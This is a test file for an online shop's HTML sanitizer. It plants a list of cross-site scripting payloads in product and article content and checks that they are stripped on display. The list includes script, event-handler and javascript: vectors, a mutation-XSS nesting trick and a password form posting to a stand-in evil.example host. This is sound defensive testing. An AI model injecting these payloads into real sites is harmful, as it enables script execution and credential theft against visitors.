import { afterAll, beforeAll, expect, it } from 'vitest';
import { type TestService, openTestService } from '../../../../tests/harness/test-service.ts';
import { cleanHtml } from './clean-html.ts';

let shop: TestService;
beforeAll(async () => {
  shop = await openTestService();
});
afterAll(() => shop.close());

const HOSTILE = [
  '<p onclick="steal()">一</p>',
  '<script>steal()</script>',
  '<img src="x" onerror="steal()">',
  '<a href="javascript:steal()">二</a>',
  '<a href="jav&#x09;ascript:steal()">三</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg><script>steal()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">四</p>',
  '<base href="https://evil.example">',
  '<img src="data:image/svg+xml,<svg onload=steal()>">',
  '<img src="//evil.example/pixel.gif">',
].join('');
const RUNS = /steal|evil|<(script|iframe|svg|math|form|input|style|base)|on\w+=|javascript|style=|data:/i;

it('goods and articles show what was written, less what runs or reaches elsewhere', async () => {
  await shop.db.q.updateTable('goods').set({ content: HOSTILE }).where('id', '=', 103).execute();
  await shop.db.q.updateTable('articles').set({ content: HOSTILE }).execute();
  const { list } = await shop.visitor.content.articles({ query: {} });
  const shown = [
    (await shop.visitor.goods.detail({ query: { goods_id: '103' } })).content,
    (await shop.visitor.content.articles({ query: { id: String(list[0]!.id) } })).list[0]!.content,
  ];
  for (const html of shown) {
    expect(html).toMatch(/<p>一<\/p>.*二.*三.*<p>四<\/p>/);
    expect(html).not.toMatch(RUNS);
  }
});

it('what the shop itself writes stays as it is', async () => {
  const { rows } = await shop.db.pool.query<{ id: number; content: string }>(
    'select id, content from goods where id <> 103',
  );
  expect(rows.length).toBeGreaterThan(10);
  for (const { id, content } of rows)
    expect((await shop.visitor.goods.detail({ query: { goods_id: String(id) } })).content).toBe(content);
});

it('what is clean stays as it is, also where something went that stood around a block in a paragraph', () => {
  const clean = cleanHtml('<p>一<template><blockquote>二</blockquote></template>三</p>');
  expect(clean).toContain('二');
  expect(cleanHtml(clean)).toBe(clean);
});
